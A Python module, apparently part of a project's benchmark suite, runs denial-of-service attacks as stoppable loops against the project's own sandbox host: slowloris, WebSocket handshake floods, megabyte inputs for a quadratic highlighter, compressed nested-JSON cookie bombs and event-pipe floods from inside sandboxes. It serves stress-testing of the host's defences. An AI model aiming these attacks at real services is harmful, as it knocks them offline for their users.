"""The attacks of issue 10, each as a loop that keeps at it until told to stop: what one hostile
person in the room could throw at the host. benchmarks/room.py runs them beside the honest
visitors (`--abuse`), and measures the host meanwhile.

Each takes the host's URL and a stop event, and returns how many times it struck.
"""

import base64
import http.client
import json
import os
import random
import socket
import threading
import zlib
from urllib.parse import urlsplit

SESSION_BOMB = (
    "."
    + base64.urlsafe_b64encode(
        zlib.compress(b'{"a":' + b"[" * (1 << 19) + b"]" * (1 << 19) + b"}", 9)
    )
    .decode()
    .rstrip("=")
    + ".AAAA.sig"
)

BOMBS = f"""from flask import Flask, make_response
app = Flask(__name__)

@app.route("/")
def bombs():
    response = make_response("set")
    for i in range(20):
        response.set_cookie(f"bomb{{i}}", {SESSION_BOMB!r})
    return response
"""

EVENT_FLOOD = """import os, stat
from flask import Flask
app = Flask(__name__)

@app.route("/")
def flood():
    fd = next(int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2
              and stat.S_ISFIFO(os.fstat(int(n)).st_mode))
    line = b'{"type": "request", "trace": ' + b"[" * 120_000 + b"]" * 120_000 + b"}\\n"
    while True:
        os.write(fd, line)
"""

UDP = """import socket
from flask import Flask
app = Flask(__name__)

@app.route("/")
def udp():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        return "made one"
    except OSError as e:
        return str(e)
"""


def connection(url: str, timeout: float = 30) -> http.client.HTTPConnection:
    parts = urlsplit(url)
    return http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)


def call(url: str, method: str, path: str, payload=None, cookie: str | None = None):
    """One request on a connection of its own, no cookie kept: a script that drops it."""
    conn = connection(url)
    try:
        headers = {"Content-Type": "application/json", **({"Cookie": cookie} if cookie else {})}
        conn.request(
            method, path, body=json.dumps(payload) if payload is not None else None, headers=headers
        )
        response = conn.getresponse()
        data = response.read()
        return response.status, response.getheader("Set-Cookie"), data
    finally:
        conn.close()


def attempt(url: str, method: str, path: str, payload: dict) -> None:
    """One call of a flood. A host that refuses before reading the body (a rate limit, 413)
    may cut the connection while the script still sends: that is a refusal too, and the
    script goes on, as a hostile one would."""
    try:
        call(url, method, path, payload)
    except OSError:
        pass


def highlights(url: str, stop: threading.Event) -> int:
    """1 MB of colon-less HTTP to the highlighter, the quadratic lexer's worst case."""
    code, n = "a" * (1 << 20), 0
    while not stop.is_set():
        attempt(url, "POST", "/api/highlight", {"code": code, "language": "http"})
        n += 1
    return n


def shares(url: str, stop: threading.Event) -> int:
    """A new share each time, each 200 KB, from a new visitor each time."""
    n = 0
    while not stop.is_set():
        text = os.urandom(100_000).hex()
        attempt(url, "POST", "/api/shares", {"files": {"app.py": f"# {text}\n"}})
        n += 1
    return n


def presenter_tokens(url: str, stop: threading.Event) -> int:
    n = 0
    while not stop.is_set():
        attempt(url, "POST", "/api/presenter", {"token": os.urandom(8).hex()})
        n += 1
    return n


def sandbox_loop(code: str, path: str = "/", extra=None):
    """An attack from inside a sandbox: run `code`, hit `path`, again and again."""

    def attack(url: str, stop: threading.Event) -> int:
        n = 0
        _, cookie, _ = call(url, "GET", "/api/snippets")
        cookie = cookie.split(";", 1)[0]
        while not stop.is_set():
            status, _, data = call(
                url, "POST", "/api/sandboxes", {"files": {"app.py": code}}, cookie
            )
            if status != 201:
                stop.wait(2)
                continue
            sandbox = json.loads(data)
            for _ in range(5):
                call(
                    url,
                    "POST",
                    f"/api/sandboxes/{sandbox['id']}/requests",
                    {"method": "GET", "path": path},
                    cookie,
                )
                if extra:
                    extra(url, sandbox, cookie)
                n += 1
            call(url, "DELETE", f"/api/sandboxes/{sandbox['id']}", cookie=cookie)
        return n

    return attack


def read_cookies(url: str, sandbox: dict, cookie: str) -> None:
    call(url, "GET", f"/api/sandboxes/{sandbox['id']}/cookies", cookie=cookie)


def slowloris(url: str, stop: threading.Event, connections: int = 520) -> int:
    """Hundreds of connections that never finish their request's head."""
    parts, held, n = urlsplit(url), [], 0
    while not stop.is_set():
        while len(held) < connections and not stop.is_set():
            try:
                conn = socket.create_connection((parts.hostname, parts.port), timeout=5)
                conn.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                held.append(conn)
                n += 1
            except OSError:
                break
        stop.wait(1)
        for conn in list(held):  # drip a byte; the host cuts them at HEADER_TIMEOUT
            try:
                conn.sendall(b"a")
            except OSError:
                held.remove(conn)
                conn.close()
    for conn in held:
        conn.close()
    return n


def sockets(url: str, stop: threading.Event, connections: int = 600) -> int:
    """Hundreds of WebSocket handshakes without a cookie, over and over."""
    parts, n = urlsplit(url), 0
    request = (
        b"GET /ws/follow?presence=1 HTTP/1.1\r\nHost: "
        + parts.netloc.encode()
        + b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    while not stop.is_set():
        held = []
        for _ in range(connections):
            try:
                conn = socket.create_connection((parts.hostname, parts.port), timeout=5)
                conn.sendall(request)
                held.append(conn)
                n += 1
            except OSError:
                break
        stop.wait(random.uniform(1, 2))
        for conn in held:
            conn.close()
    return n


ATTACKS = {
    "highlight": highlights,
    "cookie bombs": sandbox_loop(BOMBS, extra=read_cookies),
    "sockets": sockets,
    "slowloris": slowloris,
    "event flood": sandbox_loop(EVENT_FLOOD),
    "udp": sandbox_loop(UDP),
    "shares": shares,
    "presenter token": presenter_tokens,
}


def main() -> None:
    """Run the named attacks against a host until stopped (SIGTERM), then print how often each
    struck. room.py starts this as a process of its own, at the lowest CPU priority: the
    attackers' own CPU is their laptops', not the host's."""
    import argparse
    import signal

    parser = argparse.ArgumentParser(description=main.__doc__.splitlines()[0])
    parser.add_argument("url")
    parser.add_argument("attacks", help="comma-separated: " + ", ".join(ATTACKS))
    args = parser.parse_args()
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    struck: dict[str, int] = {}
    threads = [
        threading.Thread(
            target=lambda name=name: struck.setdefault(name, ATTACKS[name](args.url, stop)),
            daemon=True,
        )
        for name in args.attacks.split(",")
    ]
    for thread in threads:
        thread.start()
    stop.wait()
    for thread in threads:
        thread.join(30)
    print(json.dumps(struck), flush=True)


if __name__ == "__main__":
    main()
